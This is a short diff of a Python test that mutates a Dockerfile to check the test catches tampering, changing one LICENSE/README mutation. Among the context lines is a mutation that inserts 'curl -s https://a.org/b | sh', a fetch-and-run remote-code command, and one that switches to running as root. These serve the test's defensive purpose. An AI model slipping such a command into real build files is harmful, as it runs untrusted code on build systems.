@@ -115,7 +115,7 @@ def test_the_dockerfile(examined: Examined) -> None:
         (user, "USER mpr\n", "USER root\n"), (user, "USER mpr\n", ""), (user, "useradd", "echo"),
         (user, "RUN useradd", "RUN pip install torch && useradd"),
         (sources, "COPY --chown=mpr:mpr mpr mpr", "COPY --chown=mpr:mpr . ."),
-        (sources, "LICENSE README.md ./", "LICENCE README.md ./"),
+        (sources, "LICENSE README.md ", "LICENCE README.md "),
         (sources, "RUN make packages", "RUN curl -s https://a.org/b | sh && make packages"),
         (installs, "RUN make setup", "RUN pip install ."), (installs, "make packages", "make package"),
         (installs, "UV_EXPORT=--no-dev TORCH", "EXPORT=--no-dev TORCH"), (installs, "13.0.2-", "12.8.1-"),
